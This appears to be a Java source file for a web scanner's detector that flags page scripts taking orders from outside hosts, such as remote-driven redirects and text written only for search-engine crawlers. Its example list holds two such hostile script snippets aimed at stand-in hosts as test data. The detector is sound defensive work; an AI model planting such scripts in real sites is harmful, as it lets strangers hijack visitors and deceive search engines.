package vn.vonggac.detector;

import jakarta.inject.Singleton;
import java.util.List;
import java.util.stream.Stream;
import vn.vonggac.detect.Detector;
import vn.vonggac.detect.Example;
import vn.vonggac.detect.Family;
import vn.vonggac.detect.Finding;
import vn.vonggac.detect.Observation;
import vn.vonggac.detect.ScriptOutcome;
import vn.vonggac.detect.ScriptOutcome.Target;
import vn.vonggac.detect.Seen;
import vn.vonggac.detect.Severity;

/**
 * A script that does what another site answers: goes where it says, runs or writes what it sends. Who plants it changes
 * the page at any time without coming back. A part of the page filled with figures or news from elsewhere is usual;
 * the whole text written as it comes, or only for some visitors, is not.
 */
@Singleton
final class RemoteOrdersDetector implements Detector {

    private static final double WORTH_SAYING = 0.3;
    private static final double OBEYS = 0.6;
    private static final double WRITES = 0.55;
    private static final double FILLS = 0.1;
    private static final double SELECTIVE = 0.6;

    private final Strangers strangers;

    RemoteOrdersDetector(Strangers strangers) {
        this.strangers = strangers;
    }

    @Override
    public String id() {
        return "remote-orders";
    }

    @Override
    public Family family() {
        return Family.SCRIPT;
    }

    @Override
    public List<Finding> look(Observation page) {
        return page.views().stream().flatMap(seen -> look(page, seen)).toList();
    }

    private Stream<Finding> look(Observation page, Seen seen) {
        return seen.scripts().stream().flatMap(script -> script.targets().stream()
                .filter(target -> alarm(target) > 0 && stranger(target.url(), page))
                .map(target -> finding(seen, script, target)))
                .filter(finding -> finding.confidence() >= WORTH_SAYING);
    }

    /** Where everybody may keep files, what is answered is nobody's word. */
    private boolean stranger(String url, Observation page) {
        return strangers.stranger(url, page) || Addresses.foreign(url, page) && strangers.keepsAnything(url);
    }

    private static double alarm(Target target) {
        return switch (target.means()) {
            case OBEYED -> OBEYS;
            case STREAMED -> WRITES;
            case RELAYED -> FILLS;
            case LOCATION, POPUP, FRAME, SCRIPT, MODULE, NAMED -> 0;
        };
    }

    private Finding finding(Seen seen, ScriptOutcome script, Target target) {
        double selective = target.conditional() ? SELECTIVE : 0;
        double confidence = 1
                - (1 - alarm(target)) * (1 - selective) * (1 - strangers.risk(target.url()));
        String host = Addresses.host(target.url());
        Finding finding = Finding.of(this, Severity.CRITICAL, confidence, seen.view(), script.place(),
                target.url(), host).naming(List.of(host));
        return target.means() == ScriptOutcome.Means.OBEYED ? finding : finding.saying("written");
    }

    @Override
    public List<Example> examples() {
        return List.of(
                Example.raises("site-that-is-asked-where-to-send-visitors",
                        "<p>Tin</p><script>fetch('https://lenh.example.net/vn.json').then(function(r){return r.json()})"
                                + ".then(function(d){if(d.bat)location.href=d.den})</script>"),
                Example.raises("text-from-elsewhere-for-search-engines-only",
                        "<p>Tin</p><script>if(/googlebot/i.test(navigator.userAgent)){var x=new XMLHttpRequest();"
                                + "x.open('GET','https://chu.example.net/a.txt',false);x.send();"
                                + "document.write(x.responseText)}</script>"),
                Example.silent("figures-from-elsewhere-in-their-place",
                        "<p>Tin</p><p id='tt'></p><script>fetch('https://thoitiet.example.net/hue.json')"
                                + ".then(r=>r.json()).then(d=>{document.getElementById('tt').innerHTML="
                                + "'<b>'+d.nhiet+'</b>'})</script>"),
                Example.silent("portal-that-asks-itself-where-to-go",
                        "<p>Tin</p><script>fetch('/phien').then(r=>r.json()).then(d=>{if(d.het)location=d.ve})"
                                + "</script>"));
    }
}
